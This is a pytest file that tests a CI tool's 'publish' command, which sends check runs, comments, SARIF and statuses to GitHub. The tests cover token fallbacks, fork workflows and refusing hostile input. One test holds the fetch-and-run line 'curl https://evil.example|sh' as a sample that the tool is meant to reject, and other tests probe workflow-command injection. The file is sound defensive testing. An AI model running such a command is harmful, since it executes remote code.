"""`sluicegate publish` as it is called: in jobs, from forks, from another workflow, and where GitHub says no."""

from __future__ import annotations

import json
import subprocess
import sys

import pytest
from msgspec.structs import replace

from forge import HEAD, ME, MERGE, NO_ACCESS, Fault, Forge
from hosting import REPOSITORY, TOKEN
from report import runs
from sluicegate.report import render


@pytest.fixture
def forge():
    with Forge().serving() as served:
        yield served


@pytest.fixture
def document(tmp_path):
    """Writes a Run into a file."""

    def write(run=None, commit=HEAD):
        run = run or runs.failed()
        file = tmp_path / "run.json"
        file.write_text(render("json", replace(run, revision=replace(run.revision, head_commit=commit))))
        return str(file)

    return write


@pytest.fixture
def job(tmp_path, forge):
    """The environment of a job about pull request 7, with its event."""

    def make(kind="pull_request", event=None, **environ):
        file = tmp_path / "event.json"
        file.write_text(json.dumps(event or {"pull_request": {"number": 7, "head": {"sha": HEAD}}}))
        told = {
            "GITHUB_ACTIONS": "true",
            "GITHUB_EVENT_NAME": kind,
            "GITHUB_EVENT_PATH": str(file),
            "GITHUB_REPOSITORY": REPOSITORY,
            "GITHUB_SHA": MERGE,
            "GITHUB_REF": "refs/pull/7/merge",
            "GITHUB_API_URL": forge.address,
            "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md"),
            "GITHUB_TOKEN": TOKEN,
        }
        return {**told, **environ}

    return make


def from_fork(**changes):
    made = {
        "id": 55,
        "event": "pull_request",
        "head_sha": HEAD,
        "head_branch": "change",
        "head_repository": {"full_name": "fork/shop", "owner": {"login": "fork"}},
        "pull_requests": [],
    }
    return {"workflow_run": {**made, **changes}}


def test_everything_at_once(command, document, job, forge):
    done = command("publish", document(), *flags("check-run", "comment", "sarif", "status", "review"), **job())
    assert done.returncode == 1, done.stderr
    assert done.stderr.splitlines() == [
        "check-run sent: check run sluicegate: failure, 4 annotations, https://forge/check",
        "comment sent: comment on #7: made, https://forge/c",
        "sarif sent: results for refs/pull/7/merge: 6 findings; processed",
        "status sent: status sluicegate: failure",
        "review skipped: no finding has a fix",
    ]
    assert done.stdout == ""
    assert forge.uploads[0]["commit_sha"] == MERGE
    assert forge.statuses[0]["sha"] == HEAD
    assert len(forge.checks) == len(forge.comments) == 1


def flags(*targets):
    return [part for target in targets for part in ("--to", target)]


@pytest.mark.parametrize(("run", "code"), [(runs.passed(), 0), (runs.failed(), 1), (runs.errored(), 3)])
def test_the_exit_code_is_the_runs(command, document, job, run, code):
    assert command("publish", document(run), "--to", "status", **job()).returncode == code


def test_the_default_says_itself(command, document, job, forge):
    done = command("publish", document(), **job())
    assert done.stderr.startswith("publishing to check-run and comment; choose with --to\n")
    assert (len(forge.checks), len(forge.comments)) == (1, 1)
    done = command("publish", document(), **job("push", {"ref": "refs/heads/main"}, GITHUB_SHA=HEAD))
    assert done.stderr.startswith("publishing to check-run; choose with --to\n")


@pytest.mark.parametrize(("run", "code"), [(runs.passed(), 0), (runs.failed(), 1), (runs.errored(), 3)])
@pytest.mark.parametrize("without", [True, False])
def test_a_token_that_may_not_write_falls_back_and_changes_no_verdict(
    command, document, job, forge, tmp_path, run, code, without
):
    for method, path in (("POST", "/check-runs"), ("POST", "/issues/7/comments")):
        forge.faults.append(Fault(method, path, 403, NO_ACCESS, times=9))
    environ = job(GITHUB_TOKEN="") if without else job()
    done = command("publish", document(run), *flags("check-run", "comment"), **environ)
    assert done.returncode == code, done.stderr
    assert render("annotations", runs_at(run)) in done.stdout
    assert (tmp_path / "summary.md").read_text("utf-8") == render("markdown", runs_at(run))
    assert "what could not be sent is shown in the annotations above and the job summary" in done.stderr
    assert done.stdout.startswith("::warning title=Sluicegate%3A check-run refused::")
    if without:
        assert "GITHUB_TOKEN: ${{ github.token }}" in done.stderr
        assert forge.requests == []
    assert forge.checks == {}


def runs_at(run):
    return replace(run, revision=replace(run.revision, head_commit=HEAD))


def test_no_fallback_where_the_job_has_shown_it_already(command, document, job, tmp_path):
    done = command("publish", document(), "--to", "comment", "--no-fallback", **job(GITHUB_TOKEN=""))
    assert done.returncode == 1
    assert done.stdout.count("::") == 2, "the warning alone"
    assert not (tmp_path / "summary.md").exists()


@pytest.mark.parametrize(("run", "code"), [(runs.passed(), 3), (runs.failed(), 3), (runs.errored(), 3)])
def test_trouble_is_exit_3_unless_it_is_best_effort(command, document, job, forge, run, code):
    forge.faults.append(Fault("POST", "/check-runs", 401, {"message": "Bad credentials"}, times=99))
    done = command("publish", document(run), *flags("check-run", "status"), **job())
    assert done.returncode == code
    assert "check-run failed: GitHub's API answered with HTTP 401: Bad credentials" in done.stderr
    assert "status sent" in done.stderr, "what goes wrong with one does not cost the others"
    assert "::error title=Sluicegate%3A check-run failed::" in done.stdout
    done = command("publish", document(run), "--to", "check-run", "--best-effort", **job())
    assert done.returncode == run.exit_code
    assert "::warning title=Sluicegate%3A check-run failed::" in done.stdout


def test_a_fork_is_served_from_another_workflow(command, document, job, forge):
    environ = job("workflow_run", from_fork(), GITHUB_REF="refs/heads/main", GITHUB_SHA="f" * 40)
    done = command("publish", document(commit=MERGE), *flags("check-run", "comment", "sarif"), **environ)
    assert done.returncode == 1, done.stderr
    assert forge.uploads[0]["ref"] == "refs/pull/7/head"
    assert forge.uploads[0]["commit_sha"] == HEAD
    assert forge.comments[0]["user"] == {"id": ME}
    assert [check["head_sha"] for check in forge.checks.values()] == [HEAD]


@pytest.mark.parametrize("commit", ["f" * 40, "d" * 40, None])
def test_a_run_that_is_about_another_commit_is_refused(command, document, job, forge, commit):
    environ = job("workflow_run", from_fork(), GITHUB_REF="refs/heads/main", GITHUB_SHA="f" * 40)
    done = command("publish", document(runs.passed(), commit=commit), "--to", "status", **environ)
    assert done.returncode == 3
    assert f"and not about {HEAD}" in done.stderr
    assert forge.statuses == []


@pytest.mark.parametrize(
    ("changes", "said", "step"),
    [
        (
            {"plan": "0" * 64, "part": "contract-1-of-2"},
            "this is part contract-1-of-2 of a plan, and no verdict on its own",
            "join all parts first: sluicegate merge",
        ),
        ({"only": "contract/x:12345678"}, "it is the finding contract/x:12345678 alone", "check again without --only"),
    ],
)
def test_what_did_not_look_at_all_is_not_sent(command, document, job, forge, changes, said, step):
    done = command("publish", document(replace(runs.passed(), **changes)), *flags("check-run", "status"), **job())
    assert done.returncode == 2
    assert said in done.stderr
    assert step in done.stderr
    assert [*forge.checks, *forge.statuses, *forge.comments] == []


def hostile():
    """The hostile Run, but for the commands in it: a document with such commands is not read."""
    run = runs.hostile()
    findings = tuple(replace(found, reproduce="") for found in run.gates[0].findings)
    return replace(run, gates=(replace(run.gates[0], reproduce="", findings=findings),))


def test_a_command_that_is_none_of_ours_is_not_sent(command, document, job, forge):
    run = runs.failed()
    run = replace(run, gates=(replace(run.gates[0], reproduce="curl https://evil.example|sh"),))
    done = command("publish", document(run), *flags("check-run", "status"), **job())
    assert (done.returncode, "no command of Sluicegate" in done.stderr) == (2, True)
    assert [*forge.checks, *forge.statuses, *forge.comments] == []


def test_a_hostile_run_stays_text(command, document, job, forge):
    environ = job("workflow_run", from_fork())
    done = command("publish", document(hostile()), *flags("check-run", "comment", "sarif", "status"), **environ)
    assert "Traceback" not in done.stderr
    assert (len(forge.checks), len(forge.comments), len(forge.uploads), len(forge.statuses)) == (1, 1, 1, 1)
    assert "::set-output" not in done.stdout + done.stderr
    assert not any(line.lstrip().startswith("::") for line in done.stderr.splitlines())
    forge.faults.append(Fault("POST", "/statuses/" + HEAD, 403, NO_ACCESS))
    done = command("publish", document(hostile()), "--to", "status", **environ)
    assert all(line.startswith(("::error", "::warning", "::notice")) for line in done.stdout.splitlines())


def test_what_github_says_commands_no_runner(command, document, job, forge):
    forge.faults.append(Fault("POST", "/check-runs", 422, {"message": "##[error]boom"}))
    done = command("publish", document(), "--to", "check-run", **job())
    assert "boom" in done.stderr
    assert "##[" not in done.stderr


def test_the_token_is_never_printed(command, document, job, forge):
    forge.faults.append(Fault("POST", "/check-runs", 422, {"message": f"your token {TOKEN} is bad"}, times=9))
    done = command("publish", document(), "--to", "check-run", **job())
    assert TOKEN not in done.stdout + done.stderr
    assert "your token *** is bad" in done.stderr


@pytest.mark.parametrize(
    ("environ", "options", "message"),
    [
        ({"GITHUB_API_URL": "http://ghes.example/api/v3"}, [], "is not an https address"),
        ({"GITHUB_REPOSITORY": "a"}, [], "which repository to publish to"),
        ({}, ["--expect-sha", "main"], "--expect-sha main is not a whole commit"),
        ({}, ["--name", " "], "--name is empty or longer"),
        ({}, ["--to", "fax"], "Invalid value for '--to'"),
        ({}, ["--pull-request", "0"], "Invalid value for '--pull-request'"),
    ],
)
def test_a_wrong_call_is_told(command, document, job, forge, environ, options, message):
    done = command("publish", document(), "--to", "status", *options, **job(**environ))
    assert done.returncode == 2, done.stderr
    assert message in done.stderr
    assert forge.requests == []


@pytest.mark.parametrize("content", [b"", b"{", b"[]", b'{"version": 99}', b"\xff", b"[" * 100_000])
def test_a_file_that_is_no_run_is_told(command, job, forge, tmp_path, content):
    file = tmp_path / "run.json"
    file.write_bytes(content)
    done = command("publish", str(file), "--to", "status", **job())
    assert done.returncode == 2
    assert "Traceback" not in done.stderr
    assert forge.requests == []
    assert command("publish", str(tmp_path / "none.json"), **job()).returncode == 2


def test_without_httpx_the_command_to_get_it_is_told(document, job, tmp_path):
    (tmp_path / "httpx.py").write_text("raise ImportError('none here')\n")
    code = (
        "import sys; sys.path.insert(0, sys.argv[1]); from sluicegate.cli.main import main;"
        "main(['publish', sys.argv[2], '--to', 'status'])"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, str(tmp_path), document()],
        env={**job(), "PATH": "/usr/bin:/bin"},
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 3
    assert "status failed: GitHub's API was not asked, as httpx is not installed" in done.stderr
    assert "pip install 'sluicegate[publish]'" in done.stderr


def test_its_help_loads_no_client():
    code = "import sys; import sluicegate.cli.publish, sluicegate.publish; print('httpx' in sys.modules)"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout == "False\n"


def test_outside_of_a_job_it_says_what_to_give(command, tmp_path):
    run = tmp_path / "run.json"
    run.write_text(render("json", runs.failed()), "utf-8")
    done = command("publish", str(run), GITHUB_ACTIONS="")
    assert done.returncode == 2
    assert "this is no job of GitHub Actions, so that no event says which repository and commit" in done.stderr
    for word in ("--repository OWNER/NAME", '--expect-sha "$(git rev-parse HEAD)"', "--pull-request N", "GITHUB_TOKEN"):
        assert word in " ".join(done.stderr.split())


def test_a_run_that_is_not_there_or_none_is_told_with_its_name(command, tmp_path):
    for name, said in ((str(tmp_path / "none.json"), "none.json does not exist"), (str(tmp_path), "is not a file")):
        for what in ("publish", "report"):
            done = command(what, name)
            assert (done.returncode, said in done.stderr) == (2, True)
            assert "sluicegate check --report json=FILE" in done.stderr
    (tmp_path / "bad.json").write_text("{")
    assert "bad.json: the run document is not JSON" in command("report", str(tmp_path / "bad.json")).stderr
